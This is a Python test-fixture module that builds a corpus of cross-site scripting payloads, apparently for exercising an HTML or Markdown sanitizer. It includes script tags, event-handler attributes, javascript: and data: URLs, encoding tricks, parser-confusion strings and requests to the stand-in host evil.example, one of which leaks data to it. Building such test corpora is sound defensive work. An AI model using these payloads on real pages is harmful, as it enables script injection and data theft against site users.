"""Texts that try to run a script, to fetch something or to bring in an element. Each calls pwn() if it runs."""

from __future__ import annotations

from collections.abc import Iterator

MARKUP = """<script>pwn()</script>
<SCRIPT SRC=http://evil.example/x.js></SCRIPT>
<scr<script>ipt>pwn()</script>
<script >pwn()</script >
<script/x>pwn()</script>
<script\t>pwn()</script>
<script type=module>pwn()</script>
<script>/*--></title></style></textarea></script><svg/onload=pwn()>
<img src=x onerror=pwn()>
<img src=x onerror="pwn()">
<img/src=x/onerror=pwn()>
<img src=x:x onerror=pwn()>
<IMG SRC="jav&#x09;ascript:pwn();">
<img src="http://evil.example/leak?c=1">
<img srcset="http://evil.example/leak 1x">
<img src=`x`onerror=pwn()>
<img \"\"\"><script>pwn()</script>">
<image src=x onerror=pwn()>
<svg onload=pwn()>
<svg/onload=pwn()>
<svg><script>pwn()</script></svg>
<svg><animate onbegin=pwn() attributeName=x dur=1s>
<svg><set onbegin=pwn() attributename=x>
<svg><a xlink:href="javascript:pwn()"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=pwn()></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.pwn()</script>"></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=pwn()></style></mglyph></table></mtext></math>
<math href="javascript:pwn()">x</math>
<iframe src="javascript:pwn()"></iframe>
<iframe srcdoc="<script>parent.pwn()</script>"></iframe>
<iframe src="http://evil.example/"></iframe>
<object data="javascript:pwn()"></object>
<object data="http://evil.example/"></object>
<embed src="javascript:pwn()">
<embed src=http://evil.example/x.swf>
<applet code=x>
<link rel=stylesheet href=http://evil.example/x.css>
<link rel=prefetch href=http://evil.example/>
<style>@import 'http://evil.example/x.css';</style>
<style>body{background:url(http://evil.example/x)}</style>
<style>*{color:red}</style>
<meta http-equiv=refresh content="0;url=javascript:pwn()">
<meta http-equiv="refresh" content="0;http://evil.example/">
<base href="http://evil.example/">
<form action=javascript:pwn()><input type=submit></form>
<form><button formaction=javascript:pwn()>x</button></form>
<input autofocus onfocus=pwn()>
<select autofocus onfocus=pwn()></select>
<textarea autofocus onfocus=pwn()></textarea>
<keygen autofocus onfocus=pwn()>
<button autofocus onfocus=pwn()>x</button>
<video><source onerror=pwn()></video>
<video src=http://evil.example/x.mp4></video>
<video poster=javascript:pwn()></video>
<audio src=x onerror=pwn()></audio>
<body onload=pwn()>
<body background=http://evil.example/x>
<html onmouseover=pwn()>
<frameset onload=pwn()>
<marquee onstart=pwn()>x</marquee>
<details open ontoggle=pwn()>x</details>
<div onpointerover=pwn() style="position:fixed;inset:0">x</div>
<div style="background:url(http://evil.example/x)">x</div>
<div style="width:expression(pwn())">x</div>
<a href=javascript:pwn()>x</a>
<a href="&#106;avascript:pwn()">x</a>
<a href="java\nscript:pwn()">x</a>
<a href=http://evil.example/ ping=http://evil.example/p>x</a>
<table background=http://evil.example/x><td>x</table>
<template><script>pwn()</script></template>
<noscript><p title="</noscript><img src=x onerror=pwn()>"></noscript>
<title><img src=x onerror=pwn()></title>
<xmp><img src=x onerror=pwn()></xmp>
<plaintext><img src=x onerror=pwn()>
<!--><img src=x onerror=pwn()>-->
<![CDATA[<img src=x onerror=pwn()>]]>
<?xml version="1.0"?><script>pwn()</script>
<!DOCTYPE html><script>pwn()</script>
<dialog open><script>pwn()</script></dialog>
<portal src=http://evil.example/></portal>
<slot name=x><script>pwn()</script></slot>
<custom-element onclick=pwn()>x</custom-element>
<p id=text onclick=pwn()>x</p>
<p name=cookie>x</p>
&lt;script&gt;pwn()&lt;/script&gt;
&#60;script&#62;pwn()&#60;/script&#62;
\\u003cscript\\u003epwn()\\u003c/script\\u003e
%3Cscript%3Epwn()%3C/script%3E
"><script>pwn()</script>
'><img src=x onerror=pwn()>
</div></main><script>pwn()</script>
</code></pre><img src=x onerror=pwn()>
{{constructor.constructor('pwn()')()}}
${pwn()}
#{pwn()}
<%= pwn() %>
[[${pwn()}]]
javascript:pwn()
data:text/html,<script>pwn()</script>
<<script>script>pwn()<</script>/script>
<a><b><i><u><s><img src=x onerror=pwn()>
<svg></p><style><a id="</style><img src=1 onerror=pwn()>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>
<img src=x onerror=&#112;wn()>
<img src="x` `<script>pwn()</script>"` `>
<a href="#" onclick="pwn()" class="button">x</a>
<input type=image src=http://evil.example/x>
<isindex type=image src=1 onerror=pwn()>
<bgsound src=http://evil.example/x>
<layer src=http://evil.example/x></layer>
<xss style="behavior:url(x.htc)">
<br onerror=pwn()><br/onload=pwn()>
<br><script>pwn()</script>""".split("\n")

ADDRESSES = (
    "javascript:pwn()", "JaVaScRiPt:pwn()", " javascript:pwn()", "\x01javascript:pwn()", "java\tscript:pwn()",
    "java\nscript:pwn()", "javascript&colon;pwn()", "&#106;avascript:pwn()", "javascript&#58;pwn()",
    "\\javascript:pwn()", "javascript://example.org/%0apwn()", "data:text/html,<script>pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=pwn()>",
    "vbscript:pwn()", "file:///etc/passwd", "blob:http://evil.example/1", "filesystem:http://evil.example/x",
    "//evil.example/x", "/\\evil.example", "http:evil.example", "https:\\\\evil.example", "ftp://evil.example",
    "ws://evil.example", "view-source:javascript:pwn()", "about:blank", "intent://x#Intent;end", "ms-settings:x",
    "http://user:pw@evil.example/", "http://evil.example\u202etxt.exe",
    "http://evil.example/\" onmouseover=\"pwn()",
    "http://evil.example/<img src=x onerror=pwn()>", "feed:javascript:pwn()", "jar:javascript:pwn()!/",
)  # fmt: skip
CONTEXTS = (
    "[x]({})", "[x](<{}>)", '[x]({} "t")', "![x]({})", "<{}>", "{}", "[![x]({})]({})",
    "| a | b |\n|---|---|\n| [x]({}) | y |", "- [x]({})", "> # [x]({})", "[x]: {}\n\n[x]",
    "`[x]({})`", "**[x]({})**",
)  # fmt: skip
BLOCKS = (
    "```<img src=x onerror=pwn()>\n<script>pwn()</script>\n```",
    "```html onload=pwn()\n<svg onload=pwn()>\n```",
    '~~~" onmouseover="pwn()\nx\n~~~',
    "# <script>pwn()</script>",
    "| <img src=x onerror=pwn()> |\n|---|\n| <script>pwn()</script> |",
    "> <iframe src=javascript:pwn()>",
    "1. <svg/onload=pwn()>",
    "**<script>pwn()</script>**",
    "`<script>pwn()</script>`",
    "[<img src=x onerror=pwn()>](http://example.org)",
    '[x](http://example.org/?q="><script>pwn()</script>)',
    '[a](b "onclick=pwn()")',
    "[x](http://example.org 'title\" onmouseover=\"pwn()')",
    "***<b onclick=pwn()>x</b>***",
    "$$<script>pwn()</script>$$",
    "\\(\\href{javascript:pwn()}{x}\\)",
    "[^1]: <script>pwn()</script>\n\n[^1]",
    "<http://evil.example/\u0000javascript:pwn()>",
    "\u202e<script>pwn()</script>",
    "\ufeff<script>pwn()</script>",
    "\ud7ff<img src=x onerror=pwn()>\U0001f600",
    "<scr\u0000ipt>pwn()</scr\u0000ipt>",
    "<!-- \n\n --> <script>pwn()</script>",
)


def corpus() -> Iterator[str]:
    """All of them, each once."""
    yield from dict.fromkeys([*MARKUP, *BLOCKS, *(c.replace("{}", a) for a in ADDRESSES for c in CONTEXTS)])
